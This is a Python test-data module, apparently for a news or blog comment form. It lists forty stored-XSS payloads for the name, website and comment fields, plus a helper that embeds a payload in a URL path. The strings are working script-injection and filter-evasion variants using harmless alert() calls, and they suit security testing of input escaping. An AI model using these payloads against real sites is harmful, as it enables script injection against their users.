"""Stored-XSS payloads a reader might send as their name, website or comment."""

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<img src=x onerror=alert(3)>",
    '<img src="x:x" onerror="alert(String.fromCharCode(88,83,83))">',
    "<svg onload=alert(5)>",
    "<svg/onload=alert(6)>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    '"><script>alert(8)</script>',
    "'><img src=x onerror=alert(9)>",
    '" autofocus onfocus="alert(10)',
    "' autofocus onfocus='alert(11)",
    '<iframe src="javascript:alert(12)"></iframe>',
    '<a href="javascript:alert(13)">klik di sini</a>',
    "javascript:alert(14)",
    "<body onload=alert(15)>",
    "<details open ontoggle=alert(16)>",
    "<input autofocus onfocus=alert(17)>",
    "<marquee onstart=alert(18)>berita</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(19)>",
    "<scr<script>ipt>alert(20)</scr</script>ipt>",
    "&lt;script&gt;alert(21)&lt;/script&gt;",
    "&#60;script&#62;alert(22)&#60;/script&#62;",
    '<object data="javascript:alert(23)"></object>',
    '<embed src="javascript:alert(24)">',
    "<video><source onerror=alert(25)></video>",
    "<audio src=x onerror=alert(26)>",
    "<style>@import 'javascript:alert(27)';</style>",
    '<div style="background:url(javascript:alert(28))">x</div>',
    '<form action="javascript:alert(29)"><button>kirim</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(30)">',
    '<base href="javascript:alert(31)//">',
    "</textarea><script>alert(32)</script>",
    "</title><script>alert(33)</script>",
    "<!--<img src=x onerror=alert(34)>-->",
    '<a href="https://polri.go.id" onclick="alert(35)">polri</a>',
    'https://example.id/"onmouseover="alert(36)',
    "http://x.id/<script>alert(37)</script>",
    'www.x.id/"><svg onload=alert(38)>',
    "{{ 7|add:39 }} {% debug %} ${alert(39)}",
    "\u202e<script>alert(40)</script>",
]


def as_website(payload):
    """The payload smuggled into the path of an otherwise valid address."""
    return "https://example.id/" + "".join(payload.split())[:170]
